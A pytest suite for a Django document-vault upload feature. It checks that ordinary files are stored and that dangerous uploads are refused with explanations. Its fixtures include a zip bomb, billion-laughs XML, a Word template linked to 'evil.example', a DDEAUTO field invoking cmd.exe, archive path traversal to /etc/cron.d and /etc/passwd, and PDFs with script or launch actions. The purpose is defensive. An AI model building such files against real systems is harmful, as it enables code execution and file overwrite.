"""What is taken in, what is refused, and that the refusal says why."""

import stat
from hashlib import sha256
from io import BytesIO
from zipfile import ZipFile, ZipInfo

import pytest
from PIL import Image

from summitry.kit.errors import SummitryError
from summitry.plan.terms import Marking
from summitry_web.journal.models import Entry
from summitry_web.sandbox.running import sandbox_facility
from summitry_web.vault import actions
from summitry_web.vault.models import Attachment
from summitry_web.vault.sentences import SENTENCES
from tests.web.vault import files
from tests.web.vault.conftest import AT

pytestmark = pytest.mark.django_db


@pytest.fixture
def keep(event, granted, acting):
    actor = acting(granted("a@example.org", "planner"))

    def keep_file(data, name):
        return actions.keep(
            actor, event, BytesIO(data), name,
            subject=("plans", "PL-1"), marking=Marking.AMBER, owners=("U-1",), at=AT,
        )  # fmt: skip

    return keep_file


def refusal(keep, data, name):
    with pytest.raises(SummitryError) as caught:
        keep(data, name)
    assert Attachment.objects.count() == 0
    assert Entry.objects.count() == 0
    assert SENTENCES[caught.value.code].format(**caught.value.facts)
    return caught.value.code


TAKEN = {
    "plan.pdf": files.pdf(),
    "opens.pdf": files.pdf(files.open_page),
    "plan.docx": files.docx(),
    "table.xlsx": files.xlsx(),
    "notes.txt": "Ghi chú\n".encode(),
    "rows.csv": b"a,b\n1,2\n",
    "zone.geojson": b'{"type":"Point","coordinates":[105.8,21.0]}',
    "photo.jpg": files.picture(form="JPEG"),
    "photo.png": files.picture(),
    "photo.webp": files.picture(form="WEBP"),
}


@pytest.mark.parametrize("name", TAKEN)
def test_what_people_send_is_kept(keep, name):
    made = keep(TAKEN[name], name)

    assert (made.name, made.kind) == (name, name.rpartition(".")[2])


def test_bytes_lie_at_their_own_hash_readable_by_the_node_alone(keep, tmp_path):
    made = keep(b"hello\n", "notes.txt")

    content_hash = sha256(b"hello\n").hexdigest()
    place = tmp_path / "vault" / content_hash[:2] / content_hash
    assert made.hash == content_hash
    assert place.read_bytes() == b"hello\n"
    assert stat.S_IMODE(place.stat().st_mode) == 0o600


def test_text_is_found_by_a_search(keep):
    made = keep(files.docx(), "plan.docx")

    assert made.text == "Gate plan"


def test_keeping_is_journaled_without_the_name_of_the_file(keep):
    made = keep(b"hello\n", "Nguyen Van A.txt")

    entry = Entry.objects.get()
    assert (entry.kind, entry.subject) == ("document.kept", "plans/PL-1")
    assert entry.facts == {"attachment": made.pk, "hash": made.hash, "size": 6, "kind": "txt"}


BOMB = files.xlsx({"xl/worksheets/sheet1.xml": b"<a>" + b" " * 30_000_000 + b"</a>"})
MANY = files.docx({f"word/media/{n}.xml": b"<a/>" for n in range(2_001)})
REFUSED = {
    "zip bomb": (BOMB, "table.xlsx", "vault.bomb"),
    "too many parts": (MANY, "plan.docx", "vault.members"),
    "billion laughs": (files.docx(document=files.LAUGHS), "plan.docx", "vault.entities"),
    "macros renamed": (files.docx({"word/vbaProject.bin": b"x"}), "plan.docx", "vault.macros"),
    "macro sheet": (files.xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}), "a.xlsx", "vault.macros"),
    "macro type": (
        files.docx({"[Content_Types].xml": files.TYPES.replace(
            b"application/xml", b"application/vnd.ms-word.document.macroEnabled.main+xml")}),
        "plan.docx", "vault.macros",
    ),
    "embedded file": (files.docx({"word/embeddings/a.bin": b"x"}), "a.docx", "vault.embedded"),
    "template from outside": (
        files.docx({"word/_rels/settings.xml.rels": files.relations(
            "attachedTemplate", "http://evil.example/t.dotm")}),
        "plan.docx", "vault.external",
    ),
    "field that runs": (
        files.docx(document=b'<d xmlns:w="w"><w:instrText>DD</w:instrText>'
                   b"<w:instrText>EAUTO c:\\cmd.exe</w:instrText></d>"),
        "plan.docx", "vault.external",
    ),
    "workbook's links": (
        files.xlsx({"xl/externalLinks/externalLink1.xml": b"<a/>"}), "a.xlsx", "vault.external",
    ),
    "path out of the archive": (files.docx({"../../etc/cron.d/x": b"x"}), "a.docx",
                                "vault.member_name"),
    "absolute path": (files.docx({"/etc/passwd": b"x"}), "a.docx", "vault.member_name"),
    "plain archive": (files.zipped({"a.txt": b"x"}), "plan.docx", "vault.kind"),
    "old Office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.docx", "vault.old_office"),
    "50 megapixels": (files.large_png(10_000, 5_000), "photo.png", "vault.pixels"),
    "400 megapixels": (files.large_png(20_000, 20_000), "photo.png", "vault.pixels"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "vault.svg"),
    "svg as text": (b"<?xml version='1.0'?><svg onload='x()'/>", "a.txt", "vault.svg"),
    "html as text": (b"\n<!DOCTYPE html><script>x()</script>", "a.txt", "vault.kind"),
    "program": (b"MZ\x90\x00", "photo.png", "vault.kind"),
    "heic": (b"\x00\x00\x00\x18ftypheic" + bytes(20), "photo.heic", "vault.heic"),
    "truncated png": (files.picture((400, 300))[:300], "photo.png", "vault.damaged_file"),
    "truncated jpeg": (files.picture((400, 300), "JPEG")[:700], "a.jpg", "vault.damaged_file"),
    "truncated docx": (files.docx()[:200], "plan.docx", "vault.damaged_file"),
    "truncated pdf": (files.pdf()[:60], "plan.pdf", "vault.damaged_file"),
    "pdf with script": (files.pdf(files.javascript), "plan.pdf", "vault.pdf_active"),
    "pdf with hidden script": (files.hidden_javascript(), "plan.pdf", "vault.pdf_active"),
    "pdf that starts a program": (files.pdf(files.launch), "plan.pdf", "vault.pdf_active"),
    "pdf with a file inside": (files.pdf(files.embedded), "plan.pdf", "vault.pdf_active"),
    "pdf with a password": (files.pdf(lambda w: w.encrypt("x")), "a.pdf", "vault.locked"),
    "binary as text": (b"a\x00b", "a.txt", "vault.not_text"),
    "not UTF-8": ("ghi chú".encode("utf-16"), "a.txt", "vault.not_text"),
    "not GeoJSON": (b"[1,2]", "a.geojson", "vault.geojson"),
    "deep GeoJSON": (b'{"type":' * 100_000, "a.geojson", "vault.geojson"),
    "empty": (b"", "a.txt", "vault.empty"),
    "21 MB": (bytes(21_000_000), "a.txt", "vault.too_large"),
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_what_could_harm_is_refused_with_what_to_do(keep, what):
    data, name, code = REFUSED[what]

    assert refusal(keep, data, name) == code


def test_link_inside_an_archive_is_refused(keep):
    out = BytesIO(files.docx())
    link = ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    with ZipFile(out, "a") as made:
        made.writestr(link, "/etc/passwd")

    assert refusal(keep, out.getvalue(), "plan.docx") == "vault.member_name"


def test_archive_that_lies_about_its_sizes_is_refused(keep):
    honest = files.docx({"word/media/a.xml": b"<a>" + b"b" * 5_000 + b"</a>"})
    lying = honest.replace((5_007).to_bytes(4, "little"), (7).to_bytes(4, "little"))

    assert lying != honest
    assert refusal(keep, lying, "plan.docx") == "vault.damaged_file"


def test_picture_loses_place_of_the_camera_and_what_was_appended(keep, tmp_path):
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (21.0, 1.0, 42.0)}
    data = files.picture((40, 20), "JPEG", exif=exif) + b"<html><script>x()</script>"

    made = keep(data, "photo.jpg.html")

    kept = (tmp_path / "vault" / made.hash[:2] / made.hash).read_bytes()
    shown = Image.open(BytesIO(kept))
    assert (b"<script>" in kept, b"Exif" in kept, dict(shown.getexif())) == (False, False, {})
    assert (shown.size, made.name) == ((20, 40), "photo_jpg_html.jpg")


def test_png_that_is_also_a_page_is_kept_as_a_picture_alone(keep, tmp_path):
    made = keep(files.picture() + b"<html><script>x()</script></html>", "page.html")

    kept = (tmp_path / "vault" / made.hash[:2] / made.hash).read_bytes()
    assert (made.name, b"<script>" in kept) == ("page_html.png", False)


def test_nothing_above_the_ceiling_is_kept(event, granted, acting):
    actor = acting(granted("b@example.org", "planner"))
    event.ceiling = "TLP:GREEN"

    with pytest.raises(SummitryError) as caught:
        actions.keep(
            actor, event, BytesIO(b"x\n"), "a.txt",
            subject=("plans", "PL-1"), marking=Marking.AMBER, owners=(), at=AT,
        )  # fmt: skip

    assert caught.value.code == "vault.ceiling"


def test_bytes_go_when_the_last_file_that_shares_them_goes(
    keep, event, tmp_path, django_capture_on_commit_callbacks
):
    made = keep(b"same\n", "a.txt")
    Attachment.objects.create(
        event=event, hash=made.hash, name="b.txt", kind="txt", size=5, subject_table="plans",
        subject_key="PL-2", person_id="P", uploaded_at=AT,
    )  # fmt: skip
    place = tmp_path / "vault" / made.hash[:2] / made.hash

    with django_capture_on_commit_callbacks(execute=True):
        actions.forget(event, "plans", "PL-1", actor="P", at=AT)
    shared = place.exists()
    with django_capture_on_commit_callbacks(execute=True):
        actions.forget(event, "plans", "PL-2", actor="P", at=AT)

    assert (shared, place.exists()) == (True, False)


def test_facility_is_one_of_the_three():
    assert sandbox_facility() in {"bwrap", "unshare", "limits"}
